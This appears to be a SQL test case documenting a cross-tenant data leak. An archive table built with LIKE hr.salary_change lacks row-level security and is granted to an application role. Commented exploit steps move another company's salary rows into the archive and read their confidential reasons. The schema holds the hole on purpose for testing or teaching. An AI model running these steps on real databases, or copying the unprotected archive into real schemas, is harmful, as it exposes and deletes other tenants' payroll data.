-- The archive copies the columns and keys of its model but not its row level security, and it was granted.
-- about: salary_change_archive, archive_salaries
-- as: hf_appraisal_app
-- exploit: SET hr.company_id = '2';
-- exploit: WITH old AS (DELETE FROM hr.salary_change RETURNING *)
-- exploit:   INSERT INTO hr.salary_change_archive SELECT * FROM old;
-- exploit: SET hr.company_id = '1';
-- exploit: SELECT reason FROM hr.salary_change_archive;
-- shows: Road-secret raise
CREATE TABLE hr.salary_change_archive (LIKE hr.salary_change INCLUDING ALL);
GRANT SELECT, INSERT ON hr.salary_change_archive TO hf_appraisal_app;
